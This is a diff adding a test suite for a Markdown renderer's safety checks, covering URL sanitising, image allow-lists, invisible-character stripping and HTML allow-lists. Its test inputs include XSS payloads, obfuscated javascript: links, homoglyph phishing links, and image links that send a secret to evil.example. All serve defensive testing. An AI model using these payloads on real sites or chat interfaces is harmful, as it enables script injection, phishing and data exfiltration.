@@ -1,0 +1,435 @@
+import * as fc from "fast-check";
+import { createElement } from "react";
+import { renderToString } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { Markdown } from "../../../src/markdown/index.js";
+import { neutraliseText } from "../../../src/markdown/parser/safety/neutraliseText.js";
+import { toAllowedImage, toSafeUrl } from "../../../src/markdown/parser/safety/safeUrl.js";
+import { growthOf } from "../growthOf.js";
+import { render } from "./render.js";
+
+/** The elements and attributes an answer may consist of. */
+const ELEMENTS = new Set(
+  "a bdi blockquote br button code del div em h3 h4 h5 h6 hr img input li ol p pre section span strong sup table tbody td th thead tr ul".split(
+    " ",
+  ),
+);
+const ATTRIBUTES = new Set(
+  "alt aria-label aria-live checked class decoding dir disabled href id loading referrerpolicy rel role scope src start tabindex target title type".split(
+    " ",
+  ),
+);
+
+/** Whatever is not on the lists, or an address or class that no link or element of ours has. */
+function forbiddenIn(html: string): string[] {
+  const root = document.createElement("template");
+  root.innerHTML = html;
+  return [...root.content.querySelectorAll("*")].flatMap((element) => [
+    ...(ELEMENTS.has(element.localName) ? [] : [element.localName]),
+    ...[...element.attributes]
+      .filter(({ name, value }) => !ATTRIBUTES.has(name) || !isAllowedValue(name, value))
+      .map(({ name, value }) => `${name}=${value}`),
+  ]);
+}
+
+function isAllowedValue(name: string, value: string): boolean {
+  if (name === "href") return !/^(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:/i.test(value);
+  if (name === "class")
+    return /^(?:(?:osc-md[a-z-]*|language-[a-z0-9+#-]{1,32})(?: |$))+$/.test(value);
+  return true;
+}
+
+describe("addresses", () => {
+  test.each([
+    ["https://a.example", "https://a.example/"],
+    ["HTTPS://A.Example/%7ex?q=a b#ü", "https://a.example/%7ex?q=a%20b#%C3%BC"],
+    ["http://a.example:80/../x", "http://a.example/x"],
+    ["https://user:secret@a.example/", "https://a.example/"],
+    ["https:\\\\a.example\\x", "https://a.example/x"],
+    ["https:a.example", "https://a.example/"],
+    [" \u0001ht\ttps://a.ex\nample ", "https://a.example/"],
+    ["//a.example/x", "https://a.example/x"],
+    ["/\\a.example", "https://a.example/"],
+    ["https://ｅxample.com", "https://example.com/"],
+    ["https://pаypal.com/login", "https://xn--pypal-4ve.com/login"],
+    ["mailto:a@b.example", "mailto:a@b.example"],
+    ["tel:+1-2", "tel:+1-2"],
+    ['/x y?ü#"<>', "/x%20y?%C3%BC#%22%3C%3E"],
+    ["x/../y", "x/../y"],
+    ["./:x", "./:x"],
+    ["#part", "#part"],
+    ["?a=b", "?a=b"],
+    ["", ""],
+    ["a\\b?c\\d", "a/b?c\\d"],
+    ["/x?y={z}^`#|{}", "/x?y={z}^`#|{}"],
+    ["\\javascript:alert(1)", "/javascript:alert(1)"],
+    ["\ud800", "%EF%BF%BD"],
+  ])("%j leads to %j", (destination, href) => {
+    expect(toSafeUrl(destination)?.href).toBe(href);
+  });
+
+  test.each([
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "\u0001javascript:alert(1)",
+    " javascript:alert(1)",
+    "vbscript:x",
+    "data:text/html,x",
+    "blob:https://a.example/x",
+    "file:///etc/passwd",
+    "ftp://a.example",
+    "view-source:https://a.example",
+    "intent://x",
+    "ws://a.example",
+    "about:blank",
+    "a+b:c",
+    "https://",
+    "https://a b",
+    "http://[::1",
+  ])("%j leads nowhere", (destination) => {
+    expect(toSafeUrl(destination)).toBeUndefined();
+  });
+
+  test.each([
+    ["x", "https://a.example/b/x"],
+    ["/x", "https://a.example/x"],
+    ["//b.example", "https://b.example/"],
+    ["javascript:x", undefined],
+  ])("%j from a page of its own leads to %j", (destination, href) => {
+    expect(toSafeUrl(destination, "https://a.example/b/c")?.href).toBe(href);
+  });
+
+  test("whatever is written, the browser reads the scheme that was checked", () => {
+    const piece = fc.constantFrom(
+      "javascript",
+      "https",
+      "data",
+      "mailto",
+      ":",
+      "/",
+      "//",
+      "\\",
+      "a.example",
+      "@",
+      "\t",
+      "\n",
+      " ",
+      "\u0000",
+      "%2f",
+      "?",
+      "#",
+      "..",
+      "&",
+      "ü",
+      "x",
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+        const url = toSafeUrl(pieces.join(""));
+        if (!url) return;
+        for (const page of ["https://page.example/a/b", "http://page.example/"]) {
+          const read = new URL(url.href, page);
+          expect(read.protocol).toMatch(/^(?:https?|mailto|tel):$/);
+          expect(read.host).toBe(
+            url.host ?? (/^(?:mailto|tel):/.test(url.href) ? "" : "page.example"),
+          );
+        }
+      }),
+      { numRuns: 20_000, seed: 4 },
+    );
+  });
+
+  test.each([
+    "[x](javascript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](java&NewLine;script&colon;alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "<javascript:alert(1)>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x]\n\n[x]: <data:text/html,x>",
+  ])("%j is its text alone", (markdown) => {
+    const html = render(markdown);
+    expect(html).not.toContain("href");
+    expect(forbiddenIn(html)).toEqual([]);
+  });
+
+  test("links keep their page to themselves, and pass nothing on", () => {
+    expect(render("[a](https://b.example)")).toContain(
+      'href="https://b.example/" rel="noopener noreferrer nofollow ugc" referrerPolicy="no-referrer" target="_blank"',
+    );
+    expect(render("[a](/b)")).not.toContain("target");
+  });
+});
+
+test.each([
+  ["an address with spaces inside", (chars: number) => `x${" ".repeat(chars)}b`],
+  ["an address with spaces at both ends", (chars: number) => " ".repeat(chars)],
+])("%s is checked in linear time", (_name, addressOf) => {
+  const growth = growthOf(
+    () => toSafeUrl(addressOf(50_000)),
+    () => toSafeUrl(addressOf(100_000)),
+    2.5,
+  );
+  expect(growth).toBeLessThanOrEqual(2.5);
+});
+
+describe("a link's text that looks like another address is followed by the real host", () => {
+  const hostOf = (markdown: string) => / <bdi[^>]*>\((.*?)\)<\/bdi>/.exec(render(markdown))?.[1];
+
+  test.each([
+    ["[https://bank.example/login](https://evil.example/)", "evil.example"],
+    ["[bank.example](https://evil.example:8443/)", "evil.example:8443"],
+    ["[**bank**.example](https://evil.example/)", "evil.example"],
+    ["[`bank.example`](https://evil.example/)", "evil.example"],
+    ["[![bank.example](/x)](https://evil.example/)", "evil.example"],
+    ["[Log in at bank。example](https://evil.example/)", "evil.example"],
+    ["[b\u200Bank.example](https://evil.example/)", "evil.example"],
+    ["[bank.example](https://bank.example.evil.example/)", "bank.example.evil.example"],
+    ["[bank.example](https://bank.example@evil.example/)", "evil.example"],
+    ["[help@bank.example](mailto:me@evil.example)", "me@evil.example"],
+    ["[https://bank.example](tel:+123)", "+123"],
+    ["[https://bank.example](/here)", "/here"],
+    ["[127.0.0.1](https://evil.example/)", "evil.example"],
+    ["[paypal](https://pаypal.com/login)", "xn--pypal-4ve.com"],
+    ["https://pаypal.com/login", "xn--pypal-4ve.com"],
+    ["<https://bank.example@evil.example/>", "evil.example"],
+    ["https://bank.example@evil.example/", "evil.example"],
+    ["[x bank.example][r]\n\n[r]: https://evil.example", "evil.example"],
+    ["[bankꓸexample](https://evil.example/)", "evil.example"],
+    ["[bank٠example](https://evil.example/)", "evil.example"],
+    ["[bank۔example](https://evil.example/)", "evil.example"],
+    ["[bank·example](https://evil.example/)", "evil.example"],
+    ["[bank.example.1](https://evil.example/)", "evil.example"],
+    [
+      "[help@bank.example](mailto:help@bank.example.evil.example)",
+      "help@bank.example.evil.example",
+    ],
+    ["[help@bank.example](mailto:other@bank.example)", "other@bank.example"],
+    ["[bank.example](mailto:help@evil.example)", "help@evil.example"],
+    [
+      "[help@bank.example](mailto:help@bank.example?cc=me@evil.example)",
+      "help@bank.example, me@evil.example",
+    ],
+    [
+      "[Write to us](mailto:help@bank.example?BCC=me%40evil.example)",
+      "help@bank.example, me@evil.example",
+    ],
+    ["[help@bank.example](mailto:?to=me@evil.example)", "me@evil.example"],
+    [
+      "[help@bank.example](mailto:help@bank.example,me@evil.example)",
+      "help@bank.example, me@evil.example",
+    ],
+  ])("%s", (markdown, host) => {
+    expect(hostOf(markdown)).toBe(host);
+  });
+
+  test.each([
+    "[our policy](https://shop.example/policy)",
+    "[shop.example](https://shop.example/policy)",
+    "[www.shop.example/policy](https://shop.example/policy)",
+    "[Shop.Example](https://www.shop.example/)",
+    "https://shop.example/x",
+    "me@shop.example",
+    "[me@shop.example](mailto:me@shop.example)",
+    "[Write to first.last@shop.example.](mailto:first.last@Shop.example?subject=a.b)",
+    "[The team of shop.example](mailto:me@shop.example)",
+    "[the page](/here)",
+  ])("%s is honest", (markdown) => {
+    expect(hostOf(markdown)).toBeUndefined();
+  });
+});
+
+describe("images", () => {
+  const prefixes = ["https://cdn.example/img/", "https://pics.example"];
+
+  test.each([
+    ["https://cdn.example/img/a.png", true],
+    ["https://cdn.example/img/b/../a.png?x=1", true],
+    ["https://CDN.example:443/img/a.png", true],
+    ["https://pics.example/any.png", true],
+    ["https://cdn.example/img", false],
+    ["https://cdn.example/images/a.png", false],
+    ["https://cdn.example/img/../a.png", false],
+    ["https://cdn.example/img/%2e%2e/a.png", false],
+    ["https://cdn.example/img/..%2fa.png", false],
+    ["https://cdn.example/img/..%5ca.png", false],
+    ["http://cdn.example/img/a.png", false],
+    ["https://cdn.example:8443/img/a.png", false],
+    ["https://cdn.example.evil.example/img/a.png", false],
+    ["https://cdn.example@evil.example/img/a.png", false],
+    ["https://user@cdn.example/img/a.png", false],
+    ["//cdn.example/img/a.png", false],
+    ["/img/a.png", false],
+    ["data:image/png;base64,AAAA", false],
+    ["blob:https://cdn.example/img/a", false],
+    ["javascript:x", false],
+  ])("%s: %j", (source, isAllowed) => {
+    expect(toAllowedImage(source, prefixes) !== undefined).toBe(isAllowed);
+    expect(toAllowedImage(source, [])).toBeUndefined();
+  });
+
+  test.each([
+    "![a](https://evil.example/p.png?q=SECRET)",
+    "![a][r]\n\n[r]: https://evil.example/p.png?q=SECRET",
+    "[![a](https://evil.example/p.png?q=SECRET)](/x)",
+    "<img src=https://evil.example/p.png?q=SECRET>",
+    "![a](//evil.example/p.png?q=SECRET)",
+  ])("%s is text, at every character of it", (markdown) => {
+    for (let end = 1; end <= markdown.length; end += 1)
+      for (const isStreaming of [true, false])
+        expect(
+          render(markdown.slice(0, end), { isStreaming, allowedImagePrefixes: prefixes }),
+        ).not.toMatch(/<img|<link/);
+  });
+
+  test("one that is allowed is not asked for before it is near, on the server either", () => {
+    const text = "![a *b*](https://cdn.example/img/a.png 'T')";
+    const html = renderToString(createElement(Markdown, { text, allowedImagePrefixes: prefixes }));
+    expect(html).toContain(
+      '<img class="osc-md-image" src="https://cdn.example/img/a.png" alt="a b" title="T" loading="lazy" decoding="async" referrerPolicy="no-referrer"/>',
+    );
+    expect(html).not.toMatch(/<link|preload|prefetch/);
+  });
+
+  test.each(["cdn.example", "/img/", "data:image/png", ""])(
+    "a prefix %j is refused with the fix",
+    (prefix) => {
+      expect(() => toAllowedImage("https://a.example", [prefix])).toThrow(
+        /write an absolute address/,
+      );
+    },
+  );
+});
+
+describe("text", () => {
+  test.each([
+    [
+      "bidi overrides, embeddings, isolates and marks",
+      "a\u202Eb\u2066c\u2069d\u200Ee\u061Cf",
+      "abcdef",
+    ],
+    ["zero-width characters", "pass\u200Bword\u2060\uFEFF\u00AD", "password"],
+    ["joiners between Latin letters", "pay\u200Dpal\u200C", "paypal"],
+    ["tag characters", "hi\u{E0068}\u{E0069}", "hi"],
+    ["variation selectors that carry data", "a\u{E0101}\u{E0142}", "a"],
+    ["fillers that look like nothing", "a\u3164\u115Fb", "ab"],
+    ["a grapheme joiner", "a\u034Fb", "ab"],
+    ["selectors of Mongolian variants", "a\u180B\u180Fb", "ab"],
+    ["variation selectors after letters and digits", "a\uFE0Fb1\uFE0F\uFE01", "ab1"],
+    ["a second variation selector on an emoji", "❤\uFE0F\uFE0E\uFE0F", "❤\uFE0F"],
+    ["unassigned characters that are ignorable", "a\uFFF0\u2065\u{E0FFF}b", "ab"],
+    ["controls", "a\u0007\u001B[31mb\u0085", "a[31mb"],
+    ["NUL and half characters", "\0 \uD800 \uDC00", "\uFFFD \uFFFD \uFFFD"],
+    ["marks past the eighth", `z${"\u0301".repeat(50)}`, `z${"\u0301".repeat(8)}`],
+  ])("loses %s", (_what, text, shown) => {
+    expect(neutraliseText(text)).toBe(shown);
+  });
+
+  test.each([
+    "👩‍👩‍👧‍👦 👍🏽 ❤️‍🔥 🏳️‍🌈 1️⃣",
+    "می‌خواهم",
+    "क्‍ष क्‌ष",
+    "שלום, עולם (2)",
+    "مرحبا",
+    "Ấn tượng, Łódź, naïve “quotes” – dashes…",
+    "日本語、한국어、ไทย",
+    "\tтекст\n",
+    "👨🏿‍🦰",
+  ])("keeps %s", (text) => {
+    expect(neutraliseText(text)).toBe(text);
+  });
+
+  test.each([
+    ["in a paragraph", "a\u202Eb&#x202E;c"],
+    ["in code", "`a\u202Eb`c"],
+    ["in a block of code", "```\na\u202Eb\n```\nc"],
+    ["in a link's text and title", "[a\u202E](/b 'c\u202E')"],
+    ["in an image's text", "![a\u202E](/b)"],
+    ["in a table", "|a\u202E|\n|-|"],
+    ["escaped", "a\\\u202Eb"],
+  ])("is without them %s", (_where, markdown) => {
+    expect(render(markdown)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
+  });
+});
+
+describe("what the text could choose, and does not", () => {
+  test.each([
+    ["js&#x20;xss", undefined],
+    ["js xss", "language-js"],
+    ["c++", "language-c++"],
+    ["C#", "language-c#"],
+    ["objective-c", "language-objective-c"],
+    ["a\u00A0b", undefined],
+    ['js"onclick=x', undefined],
+    ["{.hidden}", undefined],
+    ["x".repeat(33), undefined],
+    ["js\\ xss", undefined],
+  ])("a class, by a fence that says %j", (info, language) => {
+    const html = render(`\`\`\`${info}\na\n\`\`\``);
+    const expected = language ? `osc-md-code ${language}` : "osc-md-code";
+    expect(/<code class="([^"]*)"/.exec(html)?.[1]).toBe(expected);
+  });
+
+  test.each([
+    "# getElementById",
+    "# Title {#id .class}",
+    '<a id="body" name="cookie">x</a>',
+    "[^__proto__]: x\n\n[^__proto__]",
+    "[__proto__]: /x\n\n[__proto__] [constructor] [toString]",
+    "|<b id=x>|\n|-|",
+    "- [ ] <input name=attributes>",
+    "<form action=//evil.example><button formaction=javascript:x>",
+    "<svg onload=x><script>x</script></svg>",
+    "<style>*{display:none}</style>",
+    "<iframe srcdoc=x>",
+    '"onmouseover="x',
+    "[a](/b \"c' onclick='x\")",
+    '![a" onerror="x](/b)',
+  ])("an element, attribute or id, by %s", (markdown) => {
+    const html = render(markdown, { allowedImagePrefixes: ["https://a.example"] });
+    expect(forbiddenIn(html)).toEqual([]);
+    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
+    for (const id of ids) expect(id).toMatch(/-(?:note|mark)-\d+$/);
+  });
+
+  test("raw HTML is text, character for character", () => {
+    const html = `<script>alert("1")</script> <b onclick='x'>bold</b> <!-- c --> <a href="*x*">`;
+    const root = document.createElement("div");
+    root.innerHTML = render(html);
+    expect(root.textContent).toBe(html);
+  });
+
+  test("anything at all, made of everything that means something", () => {
+    const piece = fc.constantFrom(
+      ..."<>\"'`*_~[]()!#|-:&;\\/\n \t".split(""),
+      "javascript:",
+      "https://evil.example/",
+      "data:x",
+      "onerror=x",
+      "<img src=x>",
+      "![",
+      "](",
+      "&#x",
+      "&quot;",
+      "[^a]",
+      "[^a]:",
+      "```",
+      "    ",
+      "- ",
+      "> ",
+      "1. ",
+      "[a]: ",
+      "|-|-|\n",
+      "a",
+      "\u202E",
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 60 }), fc.boolean(), (pieces, isStreaming) => {
+        expect(forbiddenIn(render(pieces.join(""), { isStreaming }))).toEqual([]);
+      }),
+      { numRuns: 1_500, seed: 4 },
+    );
+  });
+});
